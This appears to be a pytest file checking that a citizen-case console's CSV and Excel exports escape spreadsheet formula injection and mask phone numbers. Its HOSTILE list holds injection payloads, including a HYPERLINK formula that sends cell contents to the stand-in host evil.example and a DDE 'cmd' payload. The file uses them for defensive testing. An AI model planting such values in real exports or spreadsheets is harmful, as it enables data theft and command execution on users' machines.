"""The case export: what a citizen wrote, `=HYPERLINK(…)` included, is never a live formula, in
CSV (escaped) and in the Excel workbook (every cell text)."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from bot.routing import RoutingTable
from tests.console.conftest import sign_in

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def filed(repository, description):
    return repository.file_case(source=f"zalo:{description!r}", channel="zalo", user_id="246845883529197922",
                                category="report", description=description, district="Huyện Càng Long",
                                details={"phone": "0912345678"},
                                route=RoutingTable.load().route("report", "Huyện Càng Long"))


@pytest.fixture
def operator_with_hostile_cases(app, staff, repository):
    for text in HOSTILE:
        filed(repository, text)
    client = app.test_client()
    assert sign_in(client, "dtv1").status_code == 302
    return client


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(operator_with_hostile_cases):
    answer = operator_with_hostile_cases.get("/console/cases/export.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    table = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    descriptions = [row[-1] for row in table[1:]]
    assert sorted(descriptions) == sorted("'" + text for text in HOSTILE)
    for row in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_excel_workbook_holds_text_and_no_formula(operator_with_hostile_cases, repository):
    answer = operator_with_hostile_cases.get("/console/cases/export.xlsx")
    assert answer.status_code == 200 and "attachment" in answer.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(answer.get_data())) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    assert len(re.findall(r'<row ', sheet)) == len(HOSTILE) + 1
    assert '<t>=HYPERLINK("http://evil.example/?x="&amp;A1,"Bấm vào đây")</t>' in shared  # as text
    assert "0912***678" in shared and "0912345678" not in shared  # exports mask phones, as before
    assert repository.audit_entries()[0]["after"] == {"rows": len(HOSTILE), "format": "xlsx"}


def test_another_kind_of_export_is_404(operator_with_hostile_cases):
    assert operator_with_hostile_cases.get("/console/cases/export.html").status_code == 404
